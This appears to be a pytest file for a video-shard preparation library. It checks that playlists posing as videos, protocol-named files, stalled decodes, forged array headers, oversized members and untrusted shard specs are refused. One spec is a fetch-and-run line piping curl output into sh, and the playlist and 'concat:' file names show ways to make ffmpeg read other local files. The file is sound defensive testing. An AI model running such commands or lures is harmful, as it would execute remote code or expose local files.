"""Inputs made to hurt: playlists and protocol names posing as videos, decodes that stall, frames of
absurd size, captions of absurd length, shard members whose headers lie. Each is refused or listed
with its reason, costs a bounded amount, and takes nothing good with it."""

from __future__ import annotations

import io
import json
import os
import re
import signal
import subprocess
import tarfile
import time
import tracemalloc
from pathlib import Path

import numpy as np
import pytest

from videobert.shards import reader, schema
from videobert.shards.decode import (
    STALLED, TOO_LARGE, UNREADABLE, DecodeError, DecodeOptions, VideoDecoder, iter_frames,
)
from videobert.shards.ffmpeg_bin import ffmpeg_exe
from videobert.shards.prepare import PrepareConfig, prepare

OPTIONS = DecodeOptions(fps=10, size=32, crop=(32, 32))


def plain_ffmpeg_frames(path: str, cwd: Path) -> int:
    """Bytes of frames a plain ``ffmpeg -i PATH`` (no whitelists) decodes: what an unguarded reader would get."""
    done = subprocess.run([ffmpeg_exe(), "-hide_banner", "-nostdin", "-loglevel", "error", "-i", path,
                           "-f", "rawvideo", "-pix_fmt", "rgb24", "-"], cwd=cwd, capture_output=True)
    return len(done.stdout)


def test_a_playlist_named_like_a_video_reads_nothing(media, tmp_path):
    media.encode(tmp_path / "secret.mp4", media.coded_frames(20))
    (tmp_path / "playlist.mp4").write_text("ffconcat version 1.0\nfile secret.mp4\n")
    (tmp_path / "stream.mp4").write_text("#EXTM3U\n#EXT-X-TARGETDURATION:1\n#EXTINF:1.0,\nsecret.mp4\n#EXT-X-ENDLIST\n")
    assert plain_ffmpeg_frames("playlist.mp4", tmp_path) > 0, "the playlist does reach the other file unguarded"
    for name in ("playlist.mp4", "stream.mp4"):
        with pytest.raises(DecodeError, match="is not a video ffmpeg can decode") as caught:
            list(iter_frames(tmp_path / name, OPTIONS))
        assert caught.value.kind == UNREADABLE


CONTAINERS = {".mp4": "libx264", ".m4v": "libx264", ".mkv": "libx264", ".webm": "libvpx-vp9", ".mov": "libx264",
              ".avi": "mpeg4", ".flv": "flv", ".mpg": "mpeg1video", ".mpeg": "mpeg2video", ".ts": "libx264",
              ".wmv": "wmv2", ".3gp": "libx264", ".ogv": "libtheora"}


def test_every_video_extension_passes_the_demuxer_whitelist(tmp_path):
    from videobert.shards.transcript_entries import VIDEO_EXTENSIONS

    assert set(CONTAINERS) == set(VIDEO_EXTENSIONS)
    for extension, codec in CONTAINERS.items():
        path = tmp_path / f"video{extension}"
        made = subprocess.run([ffmpeg_exe(), "-v", "error", "-y", "-f", "lavfi", "-i", "testsrc2=size=64x48:rate=20:duration=1",
                               "-c:v", codec, "-pix_fmt", "yuv420p", str(path)], capture_output=True)
        if made.returncode != 0:
            continue  # this ffmpeg build cannot write that codec; nothing to check
        assert 9 <= len(list(iter_frames(path, OPTIONS))) <= 11, extension  # 1 s at 10 fps (containers pad the start)


def test_a_file_name_that_reads_as_a_protocol_is_a_local_file(media, tmp_path, monkeypatch):
    media.encode(tmp_path / "secret.mp4", media.coded_frames(20))
    lure = tmp_path / "concat:secret.mp4|secret.mp4"
    lure.write_bytes(b"not a video at all")
    assert plain_ffmpeg_frames(lure.name, tmp_path) > 0, "ffmpeg reads the bare name as the concat protocol"
    monkeypatch.chdir(tmp_path)
    with pytest.raises(DecodeError) as caught:
        list(iter_frames(Path(lure.name), OPTIONS))
    assert caught.value.kind == UNREADABLE
    honest = media.encode(tmp_path / "a:b, c.mp4", media.coded_frames(20))  # odd characters in a real video's name
    assert media.levels(np.stack(list(iter_frames(Path(honest.name), OPTIONS)))) == list(range(0, 20, 2))


def test_a_stalled_decode_is_stopped(time_video):
    # 60 frames of 224 x 224: far more than the pipe holds, so ffmpeg is still at work when it is stopped.
    options = DecodeOptions(fps=20, size=224, crop=(224, 224), stall_timeout=1.0)
    with VideoDecoder(time_video, options) as decoder:
        frame = np.empty(decoder.frame_shape, np.uint8)
        for _ in range(3):
            assert decoder.read_into(frame)
        os.kill(decoder.process.pid, signal.SIGSTOP)  # ffmpeg stuck (a hung file system, a decoder loop)
        started = time.monotonic()
        while decoder.read_into(frame):  # what was in the pipe already, then the stall
            pass
        assert time.monotonic() - started < 10
    assert 3 <= decoder.frames_read < 60 and "no frame for 1 s" in decoder.damage

    with pytest.raises(DecodeError, match="before its first frame") as caught:
        with VideoDecoder(time_video, options) as decoder:
            os.kill(decoder.process.pid, signal.SIGSTOP)
            decoder.read_into(np.empty(decoder.frame_shape, np.uint8))
    assert caught.value.kind == STALLED


def test_frames_of_an_extreme_aspect_ratio_are_refused_before_decoding(media, tmp_path):
    sliver = media.encode(tmp_path / "sliver.mp4", np.zeros((4, 16, 1024, 3), np.uint8))  # 64:1
    whole = DecodeOptions(fps=10, size=32, crop=None, max_frame_pixels=32 * 32 * 16)
    with pytest.raises(DecodeError, match="would exceed 16384 pixels") as caught:
        list(iter_frames(sliver, whole))
    assert caught.value.kind == TOO_LARGE
    frames = list(iter_frames(sliver, DecodeOptions(fps=10, size=32, crop=None)))  # the default bound allows it
    assert frames[0].shape == (32, 2048, 3)


def test_the_pixel_bound_does_not_change_ordinary_frames(media, tmp_path):
    """The bounded scaling gives the bytes of ffmpeg's plain short-side scaling for ordinary videos."""
    for name, (height, width) in {"wide.mp4": (48, 80), "tall.mp4": (80, 48), "square.mp4": (50, 50)}.items():
        video = media.noise_video(tmp_path / name, seconds=0.5, size=(height, width))
        ours = np.stack(list(iter_frames(video, DecodeOptions(fps=10, size=36, crop=None))))
        done = subprocess.run([ffmpeg_exe(), "-v", "error", "-i", str(video), "-vf",
                               "fps=10:start_time=0:round=up,scale=w='if(gt(iw,ih),-1,36)':h='if(gt(iw,ih),36,-1)'",
                               "-f", "rawvideo", "-pix_fmt", "rgb24", "-"], capture_output=True, check=True)
        assert ours.tobytes() == done.stdout, name


def test_absurd_caption_end_times_are_skipped_and_the_good_segments_kept(media, tmp_path):
    (tmp_path / "videos").mkdir()
    media.encode(tmp_path / "videos" / "v.mp4", media.coded_frames(60))
    media.caption_json(tmp_path / "caption.json", {"v": [
        (0.0, 1.0, "good one"), (1.0, 1e300, "ends at 1e300 s"), (1.2, 1.2 + 5 * 3600, "five hours"), (2.0, 2.9, "good two"),
    ]})
    out = tmp_path / "out"
    summary = prepare(PrepareConfig(videos=(str(tmp_path / "videos"),), transcripts=(str(tmp_path / "caption.json"),),
                                    out=str(out), fps=10.0, size=32, clip_len=5, workers=1, progress=False))
    assert [s.text for s in reader.iter_samples(reader.resolve_shards(out))] == ["good one", "good two"]
    lines = [json.loads(line) for line in (out / schema.ERRORS_FILE).read_text().splitlines()]
    too_long = [line for line in lines if "more than the longest segment allowed (300.0 s" in line["reason"]]
    assert [line["segment"] for line in too_long] == [1, 2] and {line["action"] for line in too_long} == {"skipped"}
    assert "lasts 1e+300 s" in too_long[0]["reason"] and "lasts 18000.0 s" in too_long[1]["reason"]
    assert summary.segments_written + summary.segments_skipped == summary.segments_read == 4


def _raw(meta: dict, frames: bytes, key: str = "v-s00000") -> dict:
    return {"__key__": key, "__url__": "shard.tar", schema.META: json.dumps(meta).encode(), schema.TEXT: b"a caption",
            schema.FRAMES: frames}


def _meta(**changes) -> dict:
    meta = schema.SampleMeta(video_id="v", segment_index=0, start=0.0, end=1.0, fps=10.0, clip_len=2, frame_size=(4, 4),
                             n_clips=1, first_frame=0, source="t")
    return {**json.loads(meta.to_json()), **changes}


@pytest.mark.parametrize("changes, words", [
    ({"frame_size": None}, "frame_size is None, expected [height, width]"),
    ({"n_clips": "3"}, "n_clips is '3', expected an integer >= 1"),
    ({"fps": [1]}, "fps is [1], expected a positive number"),
    ({"video_id": 7, "start": "x"}, "video_id is 7, expected a string; start is 'x', expected a finite number"),
    ({"clip_len": True}, "clip_len is True, expected an integer >= 1"),
])
def test_metadata_of_the_wrong_types_is_a_shard_format_error(changes, words):
    frames = schema.encode_array(np.zeros((1, 2, 4, 4, 3), np.uint8))
    with pytest.raises(schema.ShardFormatError, match=f"shard.tar:v-s00000: metadata {re.escape(words)}"):
        schema.decode_sample(_raw(_meta(**changes), frames))


@pytest.mark.parametrize("document", [b"[1]", b'"x"', b"null", b"[" * 3000 + b"]" * 3000, b"9" * 5000])
def test_metadata_that_is_not_an_object_is_a_shard_format_error(document):
    raw = _raw({}, b"")
    raw[schema.META] = document
    with pytest.raises(schema.ShardFormatError, match="shard.tar:v-s00000: metadata "):
        schema.decode_sample(raw)


def test_an_npy_header_declaring_a_huge_array_costs_nothing():
    header = b"{'descr': '|u1', 'fortran_order': False, 'shape': (100000, 2, 4, 4, 3), }"
    header += b" " * (-(len(header) + 11) % 64) + b"\n"
    forged = b"\x93NUMPY\x01\x00" + len(header).to_bytes(2, "little") + header + bytes(96)
    tracemalloc.start()
    try:
        with pytest.raises(schema.ShardFormatError, match=r"shape \(100000, 2, 4, 4, 3\), expected \(1, 2, 4, 4, 3\)"):
            schema.decode_sample(_raw(_meta(), forged))
        with pytest.raises(schema.ShardFormatError, match="declares 9600000 bytes of data, 96 follow"):
            schema.decode_array(forged, "member")
        peak = tracemalloc.get_traced_memory()[1]
    finally:
        tracemalloc.stop()
    assert peak < 1 << 20, f"reading the forged header allocated {peak} bytes"


def test_members_larger_than_the_schema_allows_are_not_read(tmp_path, monkeypatch):
    """A shard larger than the largest member allowed, one of whose members is too large: that member is
    listed and left unread, the other samples are read. (The limits are lowered here so that the shard
    is 3 MiB rather than over 4 GiB.)"""
    monkeypatch.setattr(schema, "MAX_ARRAY_BYTES", 2 << 20)
    monkeypatch.setitem(schema.MAX_MEMBER_BYTES, schema.TEXT, 1 << 10)
    samples = [schema.Sample(key=f"v-s{i:05d}", text=text, meta=schema.SampleMeta(**{**_meta(), "segment_index": i}),
                             frames=np.full((1, 2, 4, 4, 3), i, np.uint8))
               for i, text in enumerate(["before", "x" * (3 << 20), "after"])]
    path = tmp_path / "shard-000000.tar"
    with tarfile.open(path, "w", format=tarfile.PAX_FORMAT) as tar:
        for sample in samples:
            encoded = schema.encode_sample(sample)
            for field in sorted(k for k in encoded if k != "__key__"):
                info = tarfile.TarInfo(f"{sample.key}.{field}")
                info.size = len(encoded[field])
                tar.addfile(info, io.BytesIO(encoded[field]))
    problems = []
    read = list(reader.iter_samples([str(path)], on_error=lambda url, e: problems.append(str(e))))
    assert [s.text for s in read] == ["before", "after"]
    assert f"{path}: member v-s00001.txt is {(3 << 20)} bytes, more than the 1024 the schema allows; not read" in problems
    assert any("v-s00001" in p and "lacks its 'json' or 'txt' field" in p for p in problems)


def test_shard_specs_from_a_model_config_name_local_shards_only(prepared):
    """What ``videobert eval`` applies to the held-out shards a model's own config names."""
    untrusted = dict(from_file="model/videobert-run.yaml", allow="add --trust-model-config")
    assert reader.resolve_shards(str(prepared), **untrusted) == reader.resolve_shards(str(prepared))
    for spec in ("pipe:curl -s https://example.invalid/x | sh", "https://example.invalid/shard-000000.tar",
                 "{pipe:true,local}"):
        with pytest.raises(reader.ShardSpecError, match="would run a command or open a URL.*--trust-model-config"):
            reader.resolve_shards(spec, **untrusted)
    with pytest.raises(reader.ShardSpecError, match="more than 100000 shards"):  # refused before braceexpand builds it
        reader.resolve_shards("/data/shard-{000000000..999999999}.tar", **untrusted)
